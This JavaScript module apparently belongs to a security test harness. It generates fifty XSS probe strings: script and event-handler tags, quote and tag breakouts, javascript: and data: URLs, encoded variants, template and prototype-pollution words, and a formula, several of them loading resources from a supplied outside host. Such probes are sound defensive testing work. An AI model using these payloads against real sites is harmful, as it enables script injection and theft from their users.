/** Fifty texts that become markup or script wherever somebody forgets that they are text. */

/** Calls the hook that every visit watches. */
const CALL = "__xss(1)";
/** Longest local part of an address in bytes (RFC 5321 §4.5.3.1.1). */
const LOCAL_PART_BYTES_MAX = 64;

/**
 * @param {string} elsewhere the address of another host
 * @returns {string[]} 50 texts in ASCII
 */
export function payloads(elsewhere) {
  return [
    ...elements(elsewhere),
    ...breakouts(elsewhere),
    ...addresses(elsewhere),
    ...encodings(),
    ...words(),
  ];
}

/**
 * The text as the part before the `@`, in quotes (RFC 5321 §4.1.2), where it is short enough.
 *
 * @param {string} text
 * @param {number} number
 */
export function localPart(text, number) {
  const quoted = `"${text.replaceAll("\\", "\\\\").replaceAll('"', '\\"')}"`;
  return quoted.length <= LOCAL_PART_BYTES_MAX ? quoted : `long${number}`;
}

/**
 * The text as a rule of the sink can say it.
 *
 * @param {string} text
 */
export function reply(text) {
  return text.replaceAll('"', "'");
}

/** @param {string} elsewhere */
function elements(elsewhere) {
  return [
    `<img src=x onerror=${CALL}>`,
    `<script>${CALL}</script>`,
    `<svg onload=${CALL}>`,
    `<svg><script>${CALL}</script></svg>`,
    `<body onload=${CALL}>`,
    `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
    `<iframe src="javascript:parent.${CALL}"></iframe>`,
    `<details open ontoggle=${CALL}>`,
    `<input autofocus onfocus=${CALL}>`,
    `<video><source onerror=${CALL}></video>`,
    `<math><mtext><img src=x onerror=${CALL}>`,
    `<marquee onstart=${CALL}>`,
    `<object data="javascript:${CALL}">`,
    `<style>@import url(${elsewhere}/s);</style>`,
    `<link rel=stylesheet href=${elsewhere}/l>`,
    `<link rel=preconnect href=${elsewhere}>`,
    `<img src=${elsewhere}/i>`,
    `<img srcset="${elsewhere}/set 2x">`,
    `<audio src=${elsewhere}/a autoplay></audio>`,
    `<form action=${elsewhere}/f><button>go</button></form>`,
  ];
}

/** @param {string} elsewhere */
function breakouts(elsewhere) {
  return [
    `"><script>${CALL}</script>`,
    `'><img src=x onerror=${CALL}>`,
    `" onmouseover="${CALL}" x="`,
    `' autofocus onfocus='${CALL}`,
    `</title><script>${CALL}</script>`,
    `</textarea><script>${CALL}</script>`,
    `</script><script>${CALL}</script>`,
    `--><script>${CALL}</script><!--`,
    `]]><script>${CALL}</script>`,
    `</style><img src=${elsewhere}/style>`,
    `\`;${CALL};\``,
    `";${CALL};//`,
  ];
}

/** @param {string} elsewhere */
function addresses(elsewhere) {
  return [
    `javascript:${CALL}`,
    `JaVaScRiPt:${CALL}`,
    `data:text/html,<script>parent.${CALL}</script>`,
    `${elsewhere}/bare`,
    `//${new URL(elsewhere).host}/x`,
    `<a href="javascript:${CALL}">x</a>`,
  ];
}

function encodings() {
  return [
    `&lt;img src=x onerror=${CALL}&gt;`,
    `&#60;script&#62;${CALL}&#60;/script&#62;`,
    `%3Cscript%3E${CALL}%3C/script%3E`,
    `\\u003cimg src=x onerror=${CALL}\\u003e`,
    `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
    `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  ];
}

/** Texts that mean something to a program and should mean nothing here. */
function words() {
  return [`$\{${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, "__proto__", "constructor", `=HYPERLINK(1);${CALL}`];
}
